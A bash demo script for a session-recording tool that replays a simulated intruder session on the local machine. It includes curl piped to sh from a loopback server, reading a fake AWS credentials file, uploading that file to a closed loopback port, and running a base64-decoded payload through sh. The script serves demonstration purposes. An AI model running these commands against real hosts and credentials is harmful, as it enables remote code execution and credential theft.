#!/bin/bash
# The scripted session of `make demo` (demo/demo.sh runs it through `sessrec run`):
# what someone with a fresh shell on a server might do, from harmless to alarming.
# Each command is shown with a prompt before it runs, so that the replay reads like
# a terminal. Everything stays on this machine: the "download" comes from the demo's
# web server on 127.0.0.1 and the credentials are a fake file in the demo's HOME.
#
# Environment (set by demo.sh): HOME (a temporary home with ~/.aws/credentials),
# DEMO_WEB (http://127.0.0.1:PORT of the web server), DEMO_CLOSED_PORT (a loopback
# port where nothing listens).

: "${DEMO_WEB:?}" "${DEMO_CLOSED_PORT:?}"
cd "$HOME" || exit 1

PROMPT='\u@\h:\w\$ ' # expanded by bash itself: no commands of its own in the recording
run() {
	printf '%s%s\n' "${PROMPT@P}" "$1"
	eval "$1"
}

run 'ls -A'
run 'id'
run 'uname -a'
run 'cat /etc/os-release'
run "curl -fsSL $DEMO_WEB/setup.sh | sh"
run 'cat ~/.aws/credentials'
run "curl -sS -m 3 -o /dev/null -T ~/.aws/credentials http://127.0.0.1:$DEMO_CLOSED_PORT/"
run 'echo ZWNobyAicGF5bG9hZDogcnVubmluZyBhcyAkKGlkIC11bikgb24gJChob3N0bmFtZSki | base64 -d | sh'
run 'exit'
